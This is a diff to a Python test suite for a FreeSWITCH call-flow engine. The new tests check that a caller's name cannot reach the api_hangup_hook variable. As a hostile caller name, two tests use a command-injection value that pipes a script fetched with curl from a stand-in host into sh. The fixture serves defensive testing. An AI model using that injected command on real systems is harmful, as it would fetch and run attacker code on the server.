@@ -18,14 +18,15 @@ from flowengine.testing.scripted import ScriptedFreeSwitch
 from .conftest import load
 from .flowkit import flow_from
 from .freeswitch_model import chars, expand_passes, parse_dial_string
+from .test_execute_call_data import unchecked
 from .test_flow_call import SET_THEN_PLAY, Tap, flow_call
 
 TIMEOUTS = Timeouts(connect=5, reply=5, execute=60, drain=2)
 
 
-def call_with(text: str, caller_name: str = "Alice", peer: type = ScriptedFreeSwitch, **scripted
-              ) -> tuple[FlowCall, list]:
-    flow = flow_from(text)
+def call_with(text: str, caller_name: str = "Alice", peer: type = ScriptedFreeSwitch, *, checked: bool = True,
+              **scripted) -> tuple[FlowCall, list]:
+    flow = flow_from(text) if checked else unchecked(text)
     tap = Tap(peer(destination="1000", caller_name=caller_name, **scripted))
     call = FlowCall(lambda: FlowSet({flow.name: flow}, default=flow), TIMEOUTS, run_options={"trace": True})
     converse(call, tap)
@@ -138,7 +139,8 @@ def test_a_replay_takes_a_set_by_api_for_the_recorded_set_of_the_same_value_only
     replay = ReplayFreeSwitch(recorded)
     for out in recorded.chunks("out")[:4]:   # connect, myevents, linger, answer: as recorded
         replay.receive(out)
-    answers = b"".join(chunk for _, chunk in replay.receive(f"api uuid_setvar {uuid} playback_terminators #\n\n".encode()))
+    setvar = f"api uuid_setvar {uuid} playback_terminators #\n\n".encode()
+    answers = b"".join(chunk for _, chunk in replay.receive(setvar))
     messages = Parser().feed(answers)
     assert messages and type(messages[0]).__name__ == "ApiResponse" and messages[0].body == "+OK\n"
     assert not [m for m in messages[1:] if type(m).__name__ == "Reply"]
@@ -165,7 +167,8 @@ def test_without_full_control_a_set_is_the_application_and_the_hangup_nixes_noth
     call = flow_call(FlowSet({"setplay": flow}, default=flow))
     converse(call, tap)
     assert call.proto.control == "single-channel"
-    assert tap.words()[-3:] == ['set "playback_terminators=#"', 'playback "ivr/welcome.wav"', 'hangup "NORMAL_CLEARING"']
+    assert tap.words()[-3:] == ['set "playback_terminators=#"', 'playback "ivr/welcome.wav"',
+                                'hangup "NORMAL_CLEARING"']
     assert call.run.outcomes[-2:] == [("welcome", "played"), ("bye", "hangup")]
 
 
@@ -232,3 +235,30 @@ def test_a_caller_name_spelling_an_array_is_stored_as_text_by_api_and_by_applica
         results[raw] = (peer.vars["who"], peer.vars["line"])
     assert results == {"%41RRAY::hello": ("%41RRAY::hello", "said %41RRAY::hello"),
                        "ARRAY::hello\nx": ("ARRAY: hello x", "said ARRAY::hello x")}
+
+
+HOOKS = """
+name: s
+numbers: ["1000"]
+start: hook
+steps:
+  hook: {set: {api_hangup_hook: "system /usr/local/bin/notify ${caller_id_name}"}, next: bye}
+  bye: {hangup: NORMAL_CLEARING}
+"""
+
+
+@pytest.mark.parametrize("caller_name", ["x; curl -s http://evil/p | sh", "Alice"])
+def test_a_variable_freeswitch_runs_is_set_neither_by_api_nor_by_the_application(caller_name):
+    """api_hangup_hook runs at hangup (switch_core_state_machine.c api_hook): no caller's
+    name gets there, by uuid_setvar or by the set application; the step fails."""
+    call, commands = call_with(HOOKS, caller_name, checked=False)   # --check refuses it: the call must too
+    hooks = [c.line for c in commands if (c.setvar() or ("", "", ""))[1] == "api_hangup_hook"
+             or (c.app == "set" and c.app_arg.startswith("api_hangup_hook="))]
+    assert hooks == []
+    assert call.run.result == "error"
+
+
+def test_the_authors_own_hook_is_still_set():
+    call, commands = call_with(HOOKS.replace("${caller_id_name}", "hangup"), "x; curl -s http://evil/p | sh")
+    assert any(c.setvar() and c.setvar()[1:] == ("api_hangup_hook", "system /usr/local/bin/notify hangup")
+               for c in commands)
